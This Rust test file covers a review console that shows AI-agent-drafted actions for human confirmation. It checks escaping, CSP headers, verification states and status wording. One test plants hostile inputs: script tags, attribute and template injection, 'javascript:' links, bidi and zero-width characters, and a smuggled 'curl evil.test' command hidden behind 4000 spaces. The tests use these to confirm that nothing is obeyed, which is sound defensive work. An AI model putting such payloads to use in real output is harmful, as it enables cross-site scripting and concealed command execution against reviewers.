//! What the console's pages show: everything, in words, and nothing that an agent wrote is obeyed.

use axum::body::Body;
use http::Request;
use serde_json::json;

use super::console::{Browser, FORM, ORIGIN, draft_path};
use super::fixture::*;
use crate::draft::decision::DeciderKind;
use crate::draft::record::Detail;
use crate::draft::state::Status;

type Change = fn(&mut crate::draft::receipt::Receipt);

#[tokio::test]
async fn the_card_says_whose_data_is_touched_and_by_which_administration() {
    let mut admin = view(Status::Pending);
    admin.subject = Some("u2".to_owned());
    admin.admin_context = Some("org-7 <b>\u{202e}".to_owned());
    admin.admin_mode = Some("full".to_owned());
    admin.message_id = Some("msg-9".to_owned());
    let bench = bench();
    bench.show(admin);
    let page = Browser::open(bench).await.get(&draft_path()).await.text;
    let card = page.split("</article>").next().unwrap();
    for needed in [
        "touches data of u2",
        "as an administrator: org-7 &lt;b&gt;<mark>\\u{202e}</mark>",
        "administration mode: full",
    ] {
        assert!(card.contains(needed), "{needed}: {card}");
    }
    for fact in ["Whose data", "Administration context", "Administration mode", "Message"] {
        assert!(page.contains(&format!("<th scope=\"row\">{fact}</th>")), "{fact}");
    }
}

#[tokio::test]
async fn hostile_text_is_shown_and_never_obeyed() {
    let mut hostile = view(Status::Pending);
    let script = "<script>fetch('/approve')</script>";
    let preview = hostile.line.preview.as_mut().unwrap();
    preview.title = format!("{script}\u{202e}gnp");
    preview.target = "\" onmouseover=\"x".to_owned();
    preview.impact = "pay\u{200b}pal</title>{{ page.csrf }}{% raw %}".to_owned();
    preview.details =
        vec![Detail { key: script.to_owned(), value: "\u{1b}[2K javascript:alert(1) https://evil.test".to_owned() }];
    hostile.line.owner = Some(script.to_owned());
    hostile.line.initiator = "\u{2066}x\u{2069}".to_owned();
    hostile.args = json!({script: {"cmd": format!("echo ok{}; curl evil.test", " ".repeat(4000))}, "b": "a\u{202e}b"});
    let request = hostile.request.as_mut().unwrap();
    request.body = Some(script.to_owned());
    request.headers = vec![(script.to_owned(), script.to_owned())];
    request.method = script.to_owned();
    request.target = script.to_owned();
    request.content_type = script.to_owned();
    let bench = bench();
    bench.show(hostile);
    let browser = Browser::open(bench).await;
    for path in [draft_path(), "/".to_owned()] {
        let page = browser.get(&path).await;
        assert_eq!(page.status, 200);
        let text = &page.text;
        assert_eq!(text.matches("<script").count(), 1, "only our own: {text}");
        assert!(!text.contains("onmouseover=\"x") && !text.contains("</title>{{"), "{text}");
        for hidden in ['\u{202e}', '\u{200b}', '\u{2066}', '\u{1b}'] {
            assert!(!text.contains(hidden), "{hidden:?} in {path}");
        }
        assert!(text.contains("&lt;script&gt;") && text.contains("<mark>\\u{202e}</mark>gnp"));
        assert!(!text.contains("<a href=\"http"), "what an agent wrote is no link");
    }
    let full = browser.get(&draft_path()).await.text;
    assert!(full.contains("4000 spaces") && full.contains("; curl evil.test"));
}

#[tokio::test]
async fn the_full_view_hides_nothing() {
    let browser = Browser::open(bench()).await;
    let text = browser.get(&draft_path()).await.text;
    let view = view(Status::Pending);
    let request = view.request.unwrap();
    let shown = [
        "POST",
        "https://notes.example/todos",
        "content-type",
        "application/json",
        "authorization",
        "goes with it; never shown",
        "{&quot;title&quot;:&quot;Buy milk&quot;,&quot;priority&quot;:1}",
        "35 bytes",
        "title",
        "priority",
        "false",
        "null",
        "home",
        "u1",
        "assistant",
        "s1",
        "rq-1",
        "notes",
        "create_todo",
        "todo.create",
        "Low risk",
        "Create a to-do",
        "A new to-do is added to the list.",
    ];
    for needed in shown {
        assert!(text.contains(needed), "{needed} is missing");
    }
    assert!(text.contains(&request.sha256.to_hex()) && text.contains(&hash().to_hex()) && text.contains(ID));
}

#[tokio::test]
async fn a_draft_that_does_not_verify_cannot_be_confirmed() {
    let mut damaged = view(Status::Pending);
    damaged.line.intact = false;
    damaged.line.preview = None;
    damaged.line.owner = None;
    damaged.request = None;
    damaged.args = json!(null);
    let bench = bench();
    bench.show(damaged);
    let browser = Browser::open(bench).await;
    let page = browser.get(&draft_path()).await;
    assert_eq!(page.status, 200, "{}", page.text);
    assert!(page.text.contains("does not verify") && !page.text.contains("/confirm\""));
    assert!(browser.get("/").await.text.contains("does not verify"));
}

#[tokio::test]
async fn every_state_is_told_in_words() {
    let mut pages = String::new();
    for status in Status::ALL {
        let bench = bench();
        bench.show(view(status));
        let browser = Browser::open(bench).await;
        let page = browser.get(&draft_path()).await;
        assert_eq!(page.status, 200, "{}", page.text);
        let main = page.text.split("<main>").nth(1).unwrap().split("<section").next().unwrap();
        let main = main.replace(&browser.csrf, "CSRF").replace(&hash().to_hex(), "HASH");
        pages.push_str(&format!("==== {status}\n{}\n", main.trim()));
    }
    insta::assert_snapshot!(pages);
}

#[tokio::test]
async fn p6_what_was_only_accepted_or_done_in_part_is_not_called_done() {
    let cases: [(Change, &str); 3] = [
        (|receipt| receipt.accepted = true, "it does not say that it is done"),
        (|receipt| receipt.partial = true, "Done in part."),
        (|receipt| receipt.recovered = true, "as a person found out"),
    ];
    for (change, words) in cases {
        let mut ended = view(Status::Succeeded);
        change(ended.receipt.as_mut().unwrap());
        let bench = bench();
        bench.show(ended);
        let text = Browser::open(bench).await.get(&draft_path()).await.text;
        assert!(text.contains(words) && !text.contains("<strong>Done.</strong>"), "{words}");
    }
}

#[tokio::test]
async fn the_whole_page_and_the_queue() {
    let browser = Browser::open(bench()).await;
    let tidy = |text: String| text.replace(&browser.csrf, "CSRF");
    insta::assert_snapshot!("draft_page", tidy(browser.get(&draft_path()).await.text));
    insta::assert_snapshot!("queue_page", tidy(browser.get("/").await.text));
    let signed_out = browser.bench.send(request("GET", "/", &[], Body::empty())).await;
    insta::assert_snapshot!("sign_in_page", signed_out.text);
}

#[tokio::test]
async fn the_queue_has_lists_and_tells_when_it_cannot_be_read() {
    let browser = Browser::open(bench()).await;
    let lists = [
        ("/", vec![Status::Pending]),
        ("/?show=unverifiable", vec![Status::Unverifiable]),
        ("/?show=open", vec![Status::Running, Status::Verifying]),
        ("/?show=nonsense&fbclid=1", vec![Status::Pending]),
    ];
    for (path, statuses) in lists {
        assert_eq!(browser.get(path).await.status, 200);
        assert_eq!(browser.bench.asked(), [Question::List(statuses, None, None, None, None, 50)], "{path}");
    }
    let empty = browser.get("/?show=ended").await;
    assert!(empty.text.contains("Nothing has ended yet."));
}

#[tokio::test]
async fn console_pages_load_nothing_from_elsewhere() {
    let browser = Browser::open(bench()).await;
    for path in ["/".to_owned(), draft_path()] {
        let page = browser.get(&path).await;
        let csp = page.header("content-security-policy");
        assert_eq!(
            csp,
            "default-src 'none'; style-src 'self'; script-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'"
        );
        assert!(!page.text.contains(" style=") && !page.text.contains("onclick"), "nothing inline");
        for source in page.text.split("src=\"").skip(1).chain(page.text.split("<link ").skip(1)) {
            assert!(source.contains("/assets/console."), "{source}");
        }
    }
    let style = browser.get("/assets/console.css").await;
    assert!(style.header("content-type").starts_with("text/css") && !style.text.contains("url("));
    let script = browser.get("/assets/console.js").await;
    assert!(script.header("content-type").starts_with("text/javascript"));
}

#[tokio::test]
async fn what_is_missing_is_told_on_a_page() {
    let browser = Browser::open(bench()).await;
    for path in ["/drafts/dr_5_01J0000000000000000000000B", "/drafts/x"] {
        let got = browser.get(path).await;
        assert_eq!(got.status, 404);
        assert!(got.header("content-type").starts_with("text/html") && got.text.contains("DRAFT_NOT_FOUND"));
    }
    let request: Request<Body> = request(
        "POST",
        "/drafts/x/confirm",
        &[ORIGIN, FORM, ("cookie", &browser.cookie)],
        format!("csrf={}", browser.csrf),
    );
    assert_eq!(browser.bench.send(request).await.status, 404);
}

#[tokio::test]
async fn a_rejection_by_the_guard_says_what_it_means() {
    for (reason, words) in [
        ("POLICY_CHANGED", "the policy or the upstream&#39;s address changed after the hold"),
        (&*format!("EARLIER_DRAFT_INTEGRITY {ID}"), "an equal draft before it does not verify"),
    ] {
        let mut ended = view(Status::Rejected);
        let refused = ended.refused.as_mut().unwrap();
        (refused.by, refused.reason) = (Some(decider(DeciderKind::Guard, "guard")), reason.to_owned());
        let bench = bench();
        bench.show(ended);
        let text = Browser::open(bench).await.get(&draft_path()).await.text;
        assert!(text.contains(words) && text.contains(reason), "{reason}: {text}");
    }
}
